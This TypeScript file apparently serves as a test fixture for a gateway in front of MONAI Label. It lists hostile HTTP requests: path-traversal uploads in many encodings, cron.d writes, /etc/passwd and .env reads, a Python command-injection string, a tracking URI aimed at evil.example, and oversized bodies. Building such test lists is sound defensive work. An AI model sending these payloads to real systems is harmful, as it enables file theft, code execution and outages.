const json = "application/json";
const pairs = "application/x-www-form-urlencoded";
const form = "multipart/form-data; boundary=b";

/** What leads out of a folder of MONAI Label or runs code on the pod: method, target, body and its type. */
export const climbing: readonly (readonly [string, string, string?, string?])[] = [
  ["PUT", "/datastore/image?image=../../x", file("x.py"), form],
  ["PUT", "/datastore/?image=%2e%2e%2fx", file("x.py"), form],
  ["PUT", "/datastore/image?image=%252e%252e%252fx", file("x.py"), form],
  ["PUT", "/datastore/image?image=/etc/cron.d/x", file("x"), form],
  ["PUT", "/datastore/image?image=a&image=../x", file("x.py"), form],
  ["PUT", "/datastore/image?%69mage=..%5cx", file("x.py"), form],
  ["PUT", "/datastore/image?image=%EF%BC%8E%EF%BC%8E%EF%BC%8Fx", file("x.py"), form],
  ["PUT", "/datastore/image?image=%c0%ae%c0%ae%c0%afx", file("x.py"), form],
  ["PUT", "/datastore/image?image=a%00b", file("x.py"), form],
  ["PUT", "/datastore/image?image=a%0ab", file("x.py"), form],
  ["PUT", "/datastore/image?image=..", file("x"), form],
  ["PUT", "/datastore/image?image=datastore_v2", file("x.json"), form],
  ["PUT", "/datastore/image", file("datastore_v2.json"), form],
  ["PUT", "/datastore/image?image=.lock", file("x"), form],
  ["PUT", "/datastore/image?image=a", file("../../x.py"), form],
  ["PUT", "/datastore/image?image=a", file("..\\\\x.py"), form],
  ["PUT", "/datastore/label?image=a&tag=../../..", file("x.nii.gz", "label"), form],
  ["PUT", "/session/", file("..", "files"), form],
  ["PUT", "/session/?uncompress=true", file("a.zip", "files"), form],
  ["PUT", "/session/?uncompress=no&uncompress=Yes", file("a.zip", "files"), form],
  ["GET", "/session/..%2F..%2Fetc"],
  ["GET", "/datastore/image?image=..%2F..%2Fgate.json"],
  ["GET", "/datastore/label?label=a&tag=..%2F..%2F.."],
  ["DELETE", "/datastore/image?id=../x"],
  ["POST", "/infer/deepedit?image=/etc/passwd", "params={}", pairs],
  ["POST", "/infer/deepedit?image=a", "params=" + escape('{"image": "/etc/passwd"}'), pairs],
  ["POST", "/infer/deepedit?image=a", "params={};params=x", pairs],
  ["POST", "/infer/deepedit?image=a", text('{"label_tag": "../../x", "save_label": true}'), form],
  ["POST", "/infer/deepedit?image=a", text('{"result_extension": "/../../x"}'), form],
  ["POST", "/infer/deepedit?image=a", text('{"session": {"image": "/etc/passwd"}}'), form],
  ["POST", "/infer/deepedit?image=a", `\r\n${text("{}")}`, form],
  ["POST", "/infer/deepedit?image=a", text("{}"), "multipart/form-data"],
  ["POST", "/infer/deepedit?image=a", text("{}"), "multipart/mixed; boundary=b"],
  ["POST", "/train/deepedit", '{"name": "../../../x"}', json],
  ["POST", "/train/deepedit", '{"bundle_path": "studies"}', json],
  ["POST", "/train/deepedit", '{"val_ds": "/etc/x.json"}', json],
  ["POST", "/train/deepedit", '{"distributed_url": "file:///x"}', json],
  ["POST", "/train/deepedit", '{"tracking_uri": "http://evil.example"}', json],
  ["POST", "/train/deepedit", "{\"any\": \"$__import__('os').system('id')\"}", json],
  ["POST", "/train/deepedit", '{"device": "$print(1)"}', json],
  ["POST", "/train/", '{"deepedit": {"name": "../x"}}', json],
  ["POST", "/train/deepedit", '{"name": "../x"}', "text/plain"],
  ["POST", "/train/deepedit", "[".repeat(100_000), json],
  ["POST", "/train/deepedit", `{"name": "${"a".repeat(1_100_000)}"}`, json],
  ["POST", "/batch/infer/deepedit", '{"images": ["/etc/passwd"]}', json],
  ["POST", "/infer/wsi/x", '{"params": {"image": "/etc/passwd"}}', json],
  ["GET", "/proxy/dicom/..%2Fsystem"],
  ["GET", "/proxy/dicom/qido/..%2F..%2Finstances"],
  ["GET", "/proxy/dicom/%252e%252e%252fsystem"],
  ["GET", "/proxy/dicom/wado/studies/..;/..;/system"],
  ["GET", "/proxy/dicom/wado/studies/1.2%3Fa=b"],
  ["GET", "/proxy/dicom/wado/studies/1..2"],
  ["GET", "/proxy/dicom/system"],
  ["GET", "/proxy/dicom/"],
  ["POST", "/proxy/dicom/qido/studies", "x", "application/dicom"],
  ["POST", "/proxy/dicom/wado/studies/1.2/series/1.3/reject/113001%5EDCM", "", ""],
  ["DELETE", "/proxy/dicom/wado/studies/1.2"],
  ["PUT", "/model/deepedit", file("x.pt"), form],
  ["DELETE", "/model/deepedit"],
  ["POST", "/reload"],
  ["PATCH", "/datastore/label"],
  ["GET", "/ohif/../../etc/passwd"],
  ["GET", "/static/%2Fetc%2Fpasswd"],
  ["GET", "/static/..%2f..%2f..%2fetc/passwd"],
  ["GET", "//info/"],
  ["GET", "/info/", "x", "text/plain"],
  ["GET", "/.env"],
];

function file(filename: string, name = "file"): string {
  return `--b\r\nContent-Disposition: form-data; name="${name}"; filename="${filename}"\r\n\r\nx\r\n--b--\r\n`;
}

function text(params: string): string {
  return `--b\r\nContent-Disposition: form-data; name="params"\r\n\r\n${params}\r\n--b--\r\n`;
}

function escape(value: string): string {
  return encodeURIComponent(value);
}
